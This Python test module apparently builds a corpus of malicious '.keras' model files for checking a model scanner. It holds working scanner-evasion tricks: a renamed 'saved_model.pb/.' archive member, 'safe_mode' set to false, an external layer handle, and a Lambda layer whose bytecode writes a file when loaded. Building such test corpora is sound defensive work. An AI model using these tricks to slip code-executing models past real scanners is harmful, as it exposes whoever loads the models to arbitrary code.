"""``.keras`` archives that carry a harmful SavedModel past a scanner: a member named
``.../saved_model.pb/.`` (zip extraction drops the ``/.``), a layer config with
``"safe_mode": false``, and a layer whose ``handle`` leaves the archive.

Example:
    >>> rename_member("a/saved_model.pb")
    'a/saved_model.pb/.'
"""

from __future__ import annotations

import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import tensorflow as tf

from hublayer.testing._scan_corpus_model import CorpusModel

__all__ = ["build_keras_tricks", "rename_member"]

SPEC = tf.TensorSpec([None, 4], tf.float32, name="x")
LAYER = "assets/layers/keras_layer/"


def rename_member(name: str) -> str:
    """The member name that extracts to the same file but no longer ends in ``.pb``."""
    return name + "/." if name.endswith("saved_model.pb") else name


def _writer_model(path: Path, target: Path) -> None:
    """A SavedModel whose ``__call__`` writes ``target`` and returns ``x * w``."""
    root = tf.Module()
    root.w = tf.Variable(tf.ones([4]))

    def forward(x: tf.Tensor) -> tf.Tensor:
        with tf.control_dependencies([tf.io.write_file(str(target), "pwned")]):
            return x * root.w

    root.__call__ = tf.function(forward, input_signature=[SPEC])
    tf.saved_model.save(root, str(path))


def _keras_file(file: Path, inner: Path) -> None:
    import keras

    from hublayer.layers import KerasLayer

    model = keras.Sequential([keras.Input((4,)), KerasLayer(str(inner), safe_mode=False)])
    model.save(str(file))


def _rewrite(
    file: Path,
    *,
    rename: Callable[[str], str] = lambda n: n,
    keep: Callable[[str], bool] = lambda n: True,
    config: Callable[[dict[str, Any]], None] | None = None,
) -> None:
    with zipfile.ZipFile(file) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            if not keep(name):
                continue
            if name == "config.json" and config is not None:
                tree = json.loads(data)
                config(_layer_config(tree))
                data = json.dumps(tree).encode()
            archive.writestr(rename(name), data)


def _layer_config(tree: dict[str, Any]) -> dict[str, Any]:
    for layer in tree["config"]["layers"]:
        if layer["class_name"] == "KerasLayer":
            config: dict[str, Any] = layer["config"]
            return config
    raise ValueError("Expected a KerasLayer in the .keras config. Received: none.")


def _lambda_file(file: Path, target: Path) -> None:
    """A ``.keras`` whose ``Lambda`` layer writes ``target`` (its bytecode sits in the
    config; Keras runs it only with ``safe_mode=False``)."""
    import keras

    # A lambda, so Keras stores its bytecode (a named function is stored by name); the
    # path is a constant of the code itself (Keras restores neither defaults nor globals).
    source = f"lambda x: (x, open({str(target)!r}, 'w').write('pwned'))[0]"
    write = eval(source)  # our own literal: the attacker's payload
    layer = keras.layers.Lambda(write, output_shape=(4,))
    keras.Sequential([keras.Input((4,)), layer]).save(str(file))


def build_keras_tricks(
    folder: Path, secret: Path, victims: Path, want: Callable[[str], bool]
) -> list[CorpusModel]:
    """The three ``.keras`` tricks, each embedding (or pointing at) a WriteFile model."""
    built: list[CorpusModel] = []
    tricks: dict[str, tuple[str, dict[str, Any]]] = {
        "keras_member_dot": ("keras_unsafe", {"rename": rename_member}),
        "keras_safe_mode_false": (
            "keras_unsafe",
            {"config": lambda c: c.update(safe_mode=False)},
        ),
        "keras_outside_handle": ("keras_unsafe", {}),
    }
    for place, (loader, edits) in tricks.items():
        name = f"WriteFile--{place}"
        if not want(name):
            continue
        victim = victims / name / "created.txt"
        inner = victims / f"{name}-model" if place == "keras_outside_handle" else None
        scratch = folder / f".{name}-inner"
        inner_path = inner or scratch
        shutil.rmtree(inner_path, ignore_errors=True)
        _writer_model(inner_path, victim)
        file = folder / f"{name}.keras"
        _keras_file(file, inner_path)
        if inner is not None:

            def point_out(config: dict[str, Any], handle: str = str(inner)) -> None:
                config.update(handle=handle, embed_saved_model=False)

            edits = {"config": point_out, "keep": lambda n: not n.startswith(LAYER)}
        _rewrite(file, **edits)
        shutil.rmtree(scratch, ignore_errors=True)
        built.append(
            CorpusModel(
                name=name,
                path=file,
                harmful=True,
                op="WriteFile",
                place=place,
                sources=("trick",),
                effect="create",
                victim=victim,
                loader=loader,
                secret=secret,
            )
        )
    name = "Lambda--keras_lambda"
    if want(name):
        victim = victims / name / "created.txt"
        _lambda_file(folder / f"{name}.keras", victim)
        built.append(
            CorpusModel(
                name=name,
                path=folder / f"{name}.keras",
                harmful=True,
                op="Lambda",
                place="keras_lambda",
                sources=("modelscan",),
                effect="create",
                victim=victim,
                loader="keras_unsafe",
                secret=secret,
            )
        )
    return built
